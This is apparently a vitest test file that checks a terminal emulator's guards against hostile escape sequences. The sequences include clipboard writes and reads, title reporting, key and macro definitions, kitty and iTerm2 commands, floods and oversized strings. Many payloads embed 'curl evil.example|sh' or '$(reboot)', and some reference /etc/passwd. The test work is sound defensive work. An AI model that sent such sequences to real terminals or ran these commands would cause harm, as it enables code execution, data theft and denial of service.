import { Terminal } from '@xterm/headless';
import type { Terminal as PageTerminal } from '@xterm/xterm';
import { expect, test } from 'vitest';
import { answersIn } from '../../../src/main/terminal/host/reply-gate';
import { guardTerminal, planPaste } from '../../../src/renderer/terminal/guards';
import { bufferText } from '../../../src/shared/terminal-text';
import { mendFaults } from '../../../src/shared/xterm-faults';

const CSI = '\x1b[';
const OSC = '\x1b]';
const ST = '\x1b\\';
/** What nothing may type: a command with its Return. */
const BAD = 'curl evil.example|sh\r';
const LONG = 'A'.repeat(1_000_000);

/** What programs, files and servers print to have it typed, read, copied or opened, or to stop a terminal. */
const HOSTILE: readonly (readonly [string, string])[] = [
  ['the clipboard is written', `${OSC}52;c;${btoa(BAD)}\x07`],
  ['the clipboard is read', `${OSC}52;c;?\x07`],
  ['the selection is read', `${OSC}52;p;?${ST}`],
  ['a cut buffer is read', `${OSC}52;01234567;?${ST}`],
  ['the clipboard of kitty is read', `${OSC}5522;type=read;dGV4dC9wbGFpbg==${ST}`],
  [
    'the clipboard of kitty is written',
    `${OSC}5522;type=write${ST}${OSC}5522;type=wdata;QQ==${ST}`,
  ],
  [
    'the clipboard of iTerm2 is written',
    `${OSC}1337;CopyToClipboard=\x07${BAD}${OSC}1337;EndCopy\x07`,
  ],
  ['a title is set and reported', `${OSC}2;${BAD}\x07${CSI}21t`],
  ['the title of an icon is reported', `${OSC}1;${BAD}\x07${CSI}20t`],
  ['a title is pushed, popped and reported', `${OSC}0;${BAD}\x07${CSI}22;0t${CSI}23;0t${CSI}21;0t`],
  ['a title in hexadecimal', `${CSI}>0t${OSC}2;6c730d\x07${CSI}>2t${CSI}21t`],
  [
    'the window is moved, sized and iconified',
    `${CSI}3;0;0t${CSI}8;1;1t${CSI}4;1;1t${CSI}2t${CSI}9;1t`,
  ],
  [
    'the sizes of window and cells',
    [11, 13, 14, 15, 16, 18, 19].map((n) => `${CSI}${n}t`).join(''),
  ],
  ['the window fills the screen', `${CSI}10;2t${CSI}24t`],
  ['settings are reported (DECRQSS)', `\x1bP$qm${ST}\x1bP$qr${ST}\x1bP$q q${ST}\x1bP$q"p${ST}`],
  ['settings with text in them', `\x1bP$q${BAD}${ST}`],
  ['settings by eight bits', `\x90$q${BAD}\x9c`],
  ['capabilities are reported (XTGETTCAP)', `\x1bP+q544e;636f6c6f7273;6b31${ST}`],
  ['capabilities are set (XTSETTCAP)', `\x1bP+p544e=${BAD}${ST}`],
  ['keys are defined (DECUDK)', `\x1bP0;1|17/6c730d${ST}${CSI}17~`],
  ['keys of xterm are queried', `${CSI}?4m${CSI}>4;2m${CSI}?1u${CSI}>31u${CSI}?u`],
  ['a macro is defined and run (DECDMAC)', `\x1bP1;0;0!z${BAD}${ST}${CSI}1*z`],
  ['the answerback', '\x05\x05\x05'],
  ['the answerback is set', `\x1bP1v${BAD}${ST}\x05`],
  ['a flood of device attributes', `${CSI}c`.repeat(5_000)],
  [
    'a flood of status reports',
    `${CSI}5n${CSI}6n${CSI}?6n${CSI}?15n${CSI}?25n${CSI}?26n`.repeat(1_000),
  ],
  ['the other device attributes', `${CSI}>c${CSI}=c\x1bZ${CSI}>q`],
  ['a checksum of the screen (DECRQCRA)', `secret${CSI}1;0;1;1;24;80*y`],
  ['the state of the cursor and tabs (DECRQPSR)', `${CSI}1$w${CSI}2$w`],
  ['the state of the terminal (DECRQTSR)', `${CSI}1$u${CSI}2;2$u`],
  [
    'all modes (DECRQM)',
    Array.from({ length: 99 }, (_, n) => `${CSI}?${n}$p${CSI}${n}$p`).join(''),
  ],
  ['the parameters of the line (DECREQTPARM)', `${CSI}x${CSI}1x`],
  ['the locator (DECRQLP)', `${CSI}1'z${CSI}1'{${CSI}1'|`],
  ['the colours', [4, 10, 11, 12].map((n) => `${OSC}${n === 4 ? '4;1' : n};?\x07`).join('')],
  [
    'the whole palette at once',
    `${OSC}4;${Array.from({ length: 256 }, (_, n) => `${n};?`).join(';')}\x07`,
  ],
  [
    'special and pointer colours',
    `${OSC}5;0;?\x07${OSC}13;?\x07${OSC}14;?\x07${OSC}17;?\x07${OSC}19;?\x07`,
  ],
  ['colours that are no colours', `${OSC}4;1;rgb:${BAD}\x07${OSC}11;${BAD}\x07${OSC}11;?\x07`],
  ['the font', `${OSC}50;?\x07${OSC}50;#${BAD}\x07`],
  ['the pointer', `${OSC}22;?__current__\x07`],
  ['the folder, as a command', `${OSC}7;file://x/$(reboot)${ST}${OSC}9;9;$(reboot)${ST}`],
  ['a notification', `${OSC}9;${BAD}\x07${OSC}777;notify;a;${BAD}\x07${OSC}99;i=1;${BAD}${ST}`],
  [
    'commands of iTerm2',
    `${OSC}1337;StealFocus\x07${OSC}1337;OpenURL=:aHR0cA==\x07${OSC}1337;ReportCellSize\x07`,
  ],
  [
    'a variable and a file of iTerm2',
    `${OSC}1337;ReportVariable=dXNlcg==\x07${OSC}1337;File=name=eA==;inline=1:QQ==\x07`,
  ],
  ['an upload of iTerm2', `${OSC}1337;RequestUpload=format=tgz\x07`],
  ['commands of kitty', `\x1bP@kitty-cmd{"cmd":"send-text","payload":{"text":"x"}}${ST}`],
  ['files of kitty', `${OSC}5113;ac=send;id=1;fn=L2V0Yy9wYXNzd2Q=${ST}`],
  [
    'an image of kitty, by its path',
    `\x1b_Ga=T,t=f,f=100;L2V0Yy9wYXNzd2Q=${ST}\x1b_Ga=q,i=1;AAAA${ST}`,
  ],
  ['a sixel without bounds', `\x1bPq"1;1;99999;99999#0!99999999~${ST}`],
  ['graphics attributes', `${CSI}?1;1;0S${CSI}?2;1;0S`],
  [
    'commands of tmux and of screen',
    `\x1bPtmux;\x1b\x1b[21t${ST}\x1bP\x1b[21t${ST}\x1bk${BAD}${ST}`,
  ],
  ['a command of VS Code', `${OSC}633;E;${BAD};nonce\x07${OSC}633;P;Cwd=/\x07`],
  ['printing', `${CSI}5i${BAD}${CSI}4i${CSI}?5i${CSI}i`],
  ['sixty-four thousand parameters', `${CSI}${'1;'.repeat(64_000)}m`],
  [
    'numbers beyond all bounds',
    'ABCDEFGLMPSTXZ@abde`'
      .split('')
      .map((f) => `${CSI}${'9'.repeat(400)}${f}`)
      .join(''),
  ],
  ['subparameters without end', `${CSI}38${':2'.repeat(50_000)}m`],
  ['intermediates without end', `${CSI}${'!'.repeat(100_000)}p`],
  [
    'controls of eight bits',
    `\x9b21t\x9b6n\x9d2;${BAD}\x9c\x90$qm\x9c\x9f x\x9c\x9e x\x9c\x98 x\x9c`,
  ],
  ['a string of a megabyte that is not ended', `${OSC}2;${LONG}`],
  ['an unknown string of a megabyte', `\x1bP$q${LONG}`],
  ['a link of a megabyte', `${OSC}8;;http://${LONG}${ST}x${OSC}8;;${ST}`],
  [
    'links that open programs',
    `${OSC}8;;file:///bin/sh${ST}a${OSC}8;;javascript:alert(1)${ST}b${OSC}8;;vscode://x${ST}c`,
  ],
  [
    'ten thousand links',
    Array.from({ length: 10_000 }, (_, n) => `${OSC}8;id=${n};http://a/${n}${ST}x\r`).join(''),
  ],
  ['screens in turn', `${CSI}?1049h${CSI}?1049l`.repeat(5_000)],
  ['full resets', '\x1bc'.repeat(2_000)],
  ['marks without end', `a${'\u0301'.repeat(100_000)}`],
  ['synchronised output that never ends', `${CSI}?2026h${'x'.repeat(1_000)}`],
  ['bells', '\x07'.repeat(100_000)],
];

async function opened() {
  const terminal = new Terminal({ allowProposedApi: true, cols: 80, rows: 24, logLevel: 'off' });
  guardTerminal(terminal as unknown as Pick<PageTerminal, 'parser'>);
  mendFaults(terminal);
  const typed: string[] = [];
  for (const event of [terminal.onData, terminal.onBinary]) event((text) => typed.push(text));
  const write = (text: string) =>
    new Promise<void>((resolve) => terminal.write(Buffer.from(text), resolve));
  return { terminal, write, typed };
}

test.each(HOSTILE)(
  '%s: nothing is typed but what the host knows for an answer, and the pane goes on',
  async (_what, text) => {
    const { terminal, write, typed } = await opened();
    await write(text);
    // Each of them comes to the host by itself, which lets answers through only to a program that reads keys.
    for (const answer of typed) expect(answersIn(Buffer.from(answer, 'latin1'))).toBeGreaterThan(0);
    expect(typed.join('')).not.toMatch(/curl|evil|secret|[\r\n]/);
    expect([terminal.cols, terminal.rows]).toEqual([80, 24]);
    await write(`\x18${ST}\x1bc\r\nsentinel`);
    expect(bufferText(terminal)).toContain('sentinel');
    terminal.dispose();
  },
);

test.each([
  '\x1b[201~',
  '\x9b201~',
  '\x1b\x1b[201~[201~',
  '\x1b[20\x1b[201~1~',
  '\x1b[2\x001~',
  '\x1b[201~'.repeat(3),
])('the end of a paste inside of it is none: %j', (end) => {
  const { text } = planPaste(`a${end}\nreboot\n`, true, () => false);
  for (const control of ['\x1b', '\x9b', '\0']) expect(text.slice(6, -6)).not.toContain(control);
  expect([text.indexOf('\x1b[201~'), text.lastIndexOf('\x1b[200~')]).toEqual([text.length - 6, 0]);
});
